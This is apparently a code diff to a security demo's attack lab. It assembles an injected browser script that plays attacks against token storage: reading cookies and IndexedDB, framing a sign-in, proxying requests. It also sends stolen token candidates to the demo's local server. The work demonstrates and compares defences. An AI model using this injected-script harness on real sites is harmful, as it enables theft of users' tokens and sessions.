@@ -8,7 +8,8 @@ import {
   walkGlobals,
 } from "../../../tests/attacks/attacks/read-the-page.js";
 import { proxyRequests } from "../../../tests/attacks/attacks/requests-to-the-worker.js";
-import { entry } from "../../../tests/attacks/injected.js";
+import { framedSignIn, ownFrame, vaultStorage } from "../../../tests/attacks/attacks/vault-origin.js";
+import { authorizationUrl, entry } from "../../../tests/attacks/injected.js";
 import { candidatesIn } from "../../../tests/attacks/secrets.js";
 
 /** What the lab's page injects: those of the attack lab's attacks that need a page alone. */
@@ -19,6 +20,10 @@ export const ATTACKS: readonly Attack[] = [
   readCookies,
   readIndexedDb,
   walkGlobals,
+  vaultStorage,
+  ownFrame,
+  framedSignIn,
+  // The last one, because it uses what the hooks wait for.
   proxyRequests,
 ];
 
@@ -26,6 +31,7 @@ export const ATTACKS: readonly Attack[] = [
 export function labPayload(): string {
   const hooks = ATTACKS.flatMap(({ name, hook }) => (hook ? [entry(name, hook)] : []));
   const payloads = ATTACKS.flatMap(({ name, payload }) => (payload ? [entry(name, payload)] : []));
+  const forVaultOrigins = ATTACKS.filter(({ target }) => target === "vault origin").map(({ name }) => name);
   return `// The script that the lab injects, the same for every token storage.
 // It represents a script that came in through a bug in the page or
 // inside a package. The server is the demo's own, on this machine.
@@ -34,6 +40,9 @@ const server = new URL(import.meta.url).searchParams.get("to");
 
 // Saved, because the hooks below replace it.
 const { fetch } = window;
+
+// What the attacker knows of the app, such as its client ID.
+const facts = await (await fetch(server + "/facts")).json();
 
 let sent = Promise.resolve();
 
@@ -45,7 +54,9 @@ function send(path, body) {
 /** What the attacks use. */
 function toolsOf(attack) {
   return {
+    ...facts,
     attackerUrl: \`\${server}/\${slugOf(attack)}\`,
+    authorizationUrl: (parameters) => authorizationUrl(facts, slugOf(attack), parameters),
     pause: (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds)),
     steal(...values) {
       for (const value of values) {
@@ -57,6 +68,9 @@ function toolsOf(attack) {
 }
 
 ${source(slugOf)}
+
+/** A sign-in of the attacker's own. */
+${source(authorizationUrl)}
 
 /** JWTs, authorization codes, and values as long as a refresh token. */
 ${source(candidatesIn)}
@@ -70,9 +84,27 @@ const payloads = {
 ${members(payloads)}
 };
 
-for (const [attack, hook] of Object.entries(hooks)) hook(toolsOf(attack));
-for (const [attack, payload] of Object.entries(payloads)) await payload(toolsOf(attack));
-send("/end");
+// There is nothing to attack with these if the vault has no origin of its own.
+const forVaultOrigins = ${JSON.stringify(forVaultOrigins, null, 2)};
+
+const played = [];
+
+async function play(attack, run) {
+  const before = new Set(document.body.children);
+  try {
+    await run(toolsOf(attack));
+    played.push({ attack });
+  } catch (error) {
+    played.push({ attack, problem: String(error) });
+  }
+  for (const element of [...document.body.children]) if (!before.has(element)) element.remove();
+}
+
+for (const [attack, hook] of Object.entries(hooks)) await play(attack, hook);
+for (const [attack, payload] of Object.entries(payloads)) {
+  if (facts.vaultUrl || !forVaultOrigins.includes(attack)) await play(attack, payload);
+}
+send("/end", JSON.stringify(played));
 `;
 }
 
